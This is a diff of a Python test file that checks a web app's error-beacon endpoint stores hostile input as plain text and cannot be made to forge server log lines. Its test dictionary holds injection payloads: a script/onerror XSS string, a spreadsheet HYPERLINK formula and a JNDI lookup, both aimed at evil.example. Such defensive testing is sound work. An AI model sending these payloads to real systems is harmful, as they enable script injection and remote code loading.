@@ -8,9 +8,9 @@ from urllib.parse import urlencode
 import pytest
 from starlette.testclient import TestClient
 
-from tests.log.conftest import beacon, flushed
+from tests.log.conftest import flush_and_read, send_beacon
 
-HOSTILE = {
+HOSTILE_TEXTS = {
     "script": "<script>alert(1)</script><img src=x onerror=alert(1)>",
     "formula": '=HYPERLINK("http://evil.example","click")',
     "lookup": "${jndi:ldap://evil.example/a}",
@@ -23,30 +23,30 @@ HOSTILE = {
 }
 
 
-@pytest.mark.parametrize("title", HOSTILE)
-def test_hostile_texts_in_any_field_are_stored_as_text(site: TestClient, log_file: Path, title: str) -> None:
+@pytest.mark.parametrize("title", HOSTILE_TEXTS)
+def test_hostile_texts_in_any_field_are_stored_as_text(site: TestClient, database_file: Path, title: str) -> None:
     names = ("level", "code", "name", "message", "stack", "step", "wallet", "method", "duration_ms", "flow", "other")
-    text = HOSTILE[title]
+    text = HOSTILE_TEXTS[title]
     for body in (urlencode(dict.fromkeys(names, text)).encode(), json.dumps(dict.fromkeys(names, text)).encode()):
-        assert beacon(site, body) == 200
-    for row in flushed(site, log_file):
-        output = json.loads(row.pop("error"))
-        for field in (*output.values(), *(value for value in row.values() if isinstance(value, str))):
+        assert send_beacon(site, body) == 200
+    for row in flush_and_read(site, database_file):
+        stored_error = json.loads(row.pop("error"))
+        for field in (*stored_error.values(), *(value for value in row.values() if isinstance(value, str))):
             assert not any(ord(sign) < 32 and sign != "\n" for sign in field)
             assert "\u202e" not in field
-        assert "\n" not in output["message"] + output["name"] + output["other"]
+        assert "\n" not in stored_error["message"] + stored_error["name"] + stored_error["other"]
         assert (row["level"], row["step"], row["wallet"], row["method"], row["flow"]) == ("error", "", "", "", "")
         assert row["duration_ms"] is None
         if title in {"script", "formula", "template", "sql"}:
-            assert output["message"] == text
+            assert stored_error["message"] == text
 
 
 def test_a_beacon_cannot_forge_lines_of_the_servers_own_log(site: TestClient, caplog: pytest.LogCaptureFixture) -> None:
     caplog.set_level("DEBUG")
-    for text in HOSTILE.values():
-        assert beacon(site, urlencode({"code": text, "message": text}).encode()) == 200
+    for text in HOSTILE_TEXTS.values():
+        assert send_beacon(site, urlencode({"code": text, "message": text}).encode()) == 200
     # Ignore the logger of SQLite's driver, which logs its statements at level DEBUG. No other logger may log the texts.
     logging.getLogger("kisslock.log").debug("heard")
-    output = [record.getMessage() for record in caplog.records if record.name != "aiosqlite"]
-    assert "heard" in output
-    assert not [line for line in output if "forged" in line or "jndi" in line]
+    log_lines = [record.getMessage() for record in caplog.records if record.name != "aiosqlite"]
+    assert "heard" in log_lines
+    assert not [line for line in log_lines if "forged" in line or "jndi" in line]
